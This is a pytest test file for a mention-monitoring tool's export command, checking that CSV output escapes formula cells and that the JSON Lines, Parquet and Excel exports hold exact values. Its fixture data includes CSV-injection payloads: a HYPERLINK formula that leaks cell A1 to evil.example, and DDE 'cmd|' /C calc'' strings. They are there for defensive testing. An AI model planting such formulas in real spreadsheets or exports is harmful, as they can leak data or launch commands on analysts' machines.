"""Exports an analyst can open safely: CSV with formula cells escaped, JSON Lines and
Parquet with exact values, Excel workbooks with text as text, and progress only on a
terminal. Mentions are stored in a real database and exported through the CLI."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from monitor import export as export_module
from monitor.cli import cli
from monitor.export import EXPORT_COLUMNS, ExportError, escape_formula, export_mentions
from monitor.models import Analysis, Item, Mention
from monitor.store import open_store
from monitor.store.mentions import MentionFilter, save_items

NOW = datetime(2026, 11, 20, 12, tzinfo=UTC)
HOSTILE = {  # title as posted -> as the CSV must carry it
    '=HYPERLINK("http://evil.example/?leak="&A1,"Refund form")': (
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Refund form")'
    ),
    "+1 Acme Air lost my bag too": "'+1 Acme Air lost my bag too",
    "-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\tAcme Air, tabbed": "'\tAcme Air, tabbed",
    "\r=1+1": "'\r=1+1",
    "   =1+1 after spaces": "'   =1+1 after spaces",
    "Acme Air = worst airline, -1/10": "Acme Air = worst airline, -1/10",
}


def analysis(sentiment: float, complaint: tuple[str, ...] = ()) -> Analysis:
    label = "negative" if sentiment < 0 else "positive" if sentiment > 0 else "neutral"
    return Analysis("en", sentiment, label, complaint, ())


def stored_posts(url: str) -> int:
    """One mention per hostile title (the first one -0.5, a complaint), and one Chinese
    post without a publication date. Returns how many."""
    found = []
    for i, title in enumerate([*HOSTILE, "阿克美航空弄丢了我的行李"]):
        at = NOW + timedelta(minutes=i)
        item = Item(
            key=f"post-{i}",
            source="forum",
            url=f"https://forum.example/t/{i}",
            title=title,
            text=f"-{i} stars.\nWould not fly again.",
            published_at=None if i == len(HOSTILE) else at,
            fetched_at=at + timedelta(seconds=30),
            event_at=at,
            analysis=analysis(-0.5, ("lost",)) if i == 0 else analysis(0.25 * (i % 3)),
            author="=cmd" if i == 1 else None,
        )
        found.append((item, [Mention(item.key, "Acme Air", "Acme Air", ((0, 8),))]))
    save_items(open_store(url), found)
    return len(found)


@pytest.fixture
def config(tmp_path: Path) -> Path:
    """A configuration whose SQLite database holds the posts."""
    path = tmp_path / "sources.yaml"
    path.write_text(f"database: sqlite:///{tmp_path}/monitor.db\n", encoding="utf-8")
    stored_posts(f"sqlite:///{tmp_path}/monitor.db")
    return path


def run(config: Path, *args: str):
    return CliRunner().invoke(cli, ["--config", str(config), "export", *args])


# --- CSV ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+31 20 555 0100", "'+31 20 555 0100"),
        ("-0.5", "'-0.5"),  # in a text column it is text: a formula start all the same
        ("@mention", "'@mention"),
        ("\t=1", "'\t=1"),
        ("\r\n=1", "'\r\n=1"),
        ("\n  @x", "'\n  @x"),
        ("\0x", "'\0x"),
        ("Acme Air", "Acme Air"),
        ("'=1", "'=1"),  # already text to a spreadsheet
        ("a=1", "a=1"),
        (" ", " "),
        ("", ""),
    ],
)
def test_escape_formula_follows_owasp(value, escaped):
    assert escape_formula(value) == escaped


def test_csv_escapes_formula_cells_and_leaves_numbers_alone(config):
    result = run(config, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    assert [r["title"] for r in rows[: len(HOSTILE)]] == list(HOSTILE.values())
    assert rows[1]["author"] == "'=cmd"
    assert rows[0]["text"] == "'-0 stars.\nWould not fly again."
    assert rows[0]["sentiment"] == "-0.5"  # a number column: never escaped
    assert rows[0]["complaint_terms"] == "lost"
    assert rows[0]["published_at"] == "2026-11-20T12:00:00+00:00"
    assert rows[-1]["published_at"] == ""
    assert rows[-1]["title"] == "阿克美航空弄丢了我的行李"


# --- JSON Lines and Parquet: exact values -------------------------------------------------


def test_jsonl_and_parquet_carry_the_exact_values(database_url, tmp_path):
    count = stored_posts(database_url)
    store = open_store(database_url)
    out = io.BytesIO()
    assert export_mentions(store, MentionFilter(), "jsonl", out) == count
    records = [json.loads(line) for line in out.getvalue().decode().splitlines()]
    assert [r["title"] for r in records] == [*HOSTILE, "阿克美航空弄丢了我的行李"]
    assert records[0]["sentiment"] == -0.5 and records[0]["complaint"] is True
    assert records[0]["fetched_at"] == "2026-11-20T12:00:30+00:00"
    assert records[-1]["published_at"] is None

    path = tmp_path / "mentions.parquet"
    with path.open("wb") as handle:
        assert export_mentions(store, MentionFilter(), "parquet", handle) == count
    table = pq.read_table(path)
    assert table.column_names == list(EXPORT_COLUMNS)
    as_json = [
        {k: v.isoformat() if isinstance(v, datetime) else v for k, v in row.items()}
        for row in table.to_pylist()
    ]
    assert as_json == records


def test_parquet_is_written_in_bounded_row_groups(config, tmp_path, monkeypatch):
    monkeypatch.setattr(export_module, "BATCH", 2)  # rows read at a time
    monkeypatch.setattr(export_module, "ROW_GROUP", 4)  # rows held before writing
    out = tmp_path / "mentions.parquet"
    assert run(config, "--format", "parquet", "--out", str(out)).exit_code == 0
    jsonl = run(config, "--format", "jsonl").stdout.splitlines()
    meta = pq.ParquetFile(out).metadata
    assert [meta.row_group(i).num_rows for i in range(meta.num_row_groups)] == [4, 4, 1]
    assert [r["title"] for r in pq.read_table(out).to_pylist()] == [
        json.loads(line)["title"] for line in jsonl
    ]


# --- Excel --------------------------------------------------------------------------------


def test_xlsx_holds_the_same_rows_with_text_as_text(config, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "mentions.xlsx"
    result = run(config, "--format", "xlsx", "--brand", "Acme Air", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert result.stderr == f"wrote {len(HOSTILE) + 1} mentions to {out}\n"
    with zipfile.ZipFile(out) as workbook:
        sheet_xml = workbook.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<hyperlink" not in sheet_xml  # no formula, no link

    sheet = openpyxl.load_workbook(out, read_only=True)["mentions"]
    header, *rows = [[c for c in row] for row in sheet.iter_rows()]
    assert [c.value for c in header] == list(EXPORT_COLUMNS)
    column = {name: i for i, name in enumerate(EXPORT_COLUMNS)}
    first = rows[0]
    title = first[column["title"]]
    assert (title.value, title.data_type) == (next(iter(HOSTILE)), "s")  # a string, as posted
    assert first[column["sentiment"]].value == -0.5
    assert first[column["complaint"]].value is True
    assert first[column["fetched_at"]].value == datetime(2026, 11, 20, 12, 0, 30)  # UTC
    assert first[column["incident_id"]].value is None

    # control characters are stored as OOXML's _xHHHH_ (Excel decodes them; openpyxl does
    # not for inline strings, so the test does)
    from openpyxl.utils.escape import unescape

    jsonl = [json.loads(line) for line in run(config, "--format", "jsonl").stdout.splitlines()]
    values = [[unescape(c.value) if c.data_type == "s" else c.value for c in r] for r in rows]
    assert [row[: column["published_at"]] for row in values] == [
        [r[name] for name in EXPORT_COLUMNS[: column["published_at"]]] for r in jsonl
    ]


def test_xlsx_is_refused_on_standard_output(config):
    result = run(config, "--format", "xlsx")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == (
        "Error: an Excel workbook is a binary file, not for standard output: add --out FILE.xlsx\n"
    )


def test_xlsx_refuses_more_rows_than_a_sheet_holds_and_leaves_no_file(
    config, tmp_path, monkeypatch
):
    monkeypatch.setattr(export_module, "EXCEL_MAX_ROWS", 5)
    out = tmp_path / "mentions.xlsx"
    result = run(config, "--format", "xlsx", "--out", str(out))
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: {len(HOSTILE) + 1:,} mentions match, more than an Excel sheet holds (5 rows "
        "under the header): narrow the filters (--since, --until, --brand) or use "
        "--format csv or parquet\n"
    )
    assert not out.exists()


def test_xlsx_stops_if_rows_arrive_past_the_limit_while_writing(config, tmp_path, monkeypatch):
    monkeypatch.setattr(export_module, "EXCEL_MAX_ROWS", 5)
    monkeypatch.setattr(export_module, "count_mentions", lambda store, where: 5)  # counted
    out = io.BytesIO()
    store = open_store(f"sqlite:///{tmp_path}/monitor.db")
    with pytest.raises(ExportError, match="^more than 5 mentions match"):
        export_mentions(store, MentionFilter(), "xlsx", out)
    assert out.getvalue() == b""  # nothing half-written


def test_every_format_exports_the_same_filtered_rows(config, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    since = ["--since", "2026-11-20T12:03:00Z", "--sentiment", "neutral"]
    ids = {}
    ids["csv"] = [int(r["id"]) for r in csv.DictReader(io.StringIO(run(config, *since).stdout))]
    jsonl = run(config, "--format", "jsonl", *since).stdout.splitlines()
    ids["jsonl"] = [json.loads(line)["id"] for line in jsonl]
    for fmt in ("parquet", "xlsx"):
        out = tmp_path / f"mentions.{fmt}"
        assert run(config, "--format", fmt, *since, "--out", str(out)).exit_code == 0
        if fmt == "parquet":
            ids[fmt] = pq.read_table(out).column("id").to_pylist()
        else:
            sheet = openpyxl.load_workbook(out, read_only=True)["mentions"]
            ids[fmt] = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert ids["csv"] == [4, 7]
    assert ids == {fmt: ids["csv"] for fmt in ("csv", "jsonl", "parquet", "xlsx")}


# --- progress -------------------------------------------------------------------------------


def test_progress_bar_shows_on_a_terminal_only(config, tmp_path):
    out = tmp_path / "mentions.csv"
    quiet = run(config, "--out", str(out))  # CliRunner's stderr is not a terminal
    assert quiet.stderr == f"wrote {len(HOSTILE) + 1} mentions to {out}\n"

    leader, follower = pty.openpty()
    command = [sys.executable, "-m", "monitor", "--config", str(config), "export"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=follower) as process:
        os.close(follower)
        stdout = process.stdout.read()
        terminal = b""
        while True:
            try:
                chunk = os.read(leader, 4096)
            except OSError:  # the terminal closed with the process
                break
            if not chunk:
                break
            terminal += chunk
    os.close(leader)
    assert process.returncode == 0
    assert f"exporting  [{'#' * 36}]  9/9".encode() in terminal
    assert stdout.startswith(b"id,brand,source,") and b"exporting" not in stdout


# --- the dashboard ----------------------------------------------------------------------------


def test_dashboard_offers_an_excel_download(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from dashboard_data import build_dashboard_db

    dataset = build_dashboard_db(tmp_path)
    monkeypatch.setenv("MONITOR_CONFIG", str(dataset.config_path))
    app = Path(__file__).resolve().parent.parent / "dashboard" / "app.py"
    at = AppTest.from_file(str(app), default_timeout=30)
    at.switch_page("views/export.py")
    at.run()
    at.radio(key="export_format").set_value("xlsx").run()
    assert not at.exception, [e.value for e in at.exception]
    [button] = at.get("download_button")
    assert button.proto.label == f"Download {dataset.mentions} mentions (xlsx)"
    assert [c.value for c in at.code] == ["monitor export --format xlsx --out mentions.xlsx"]
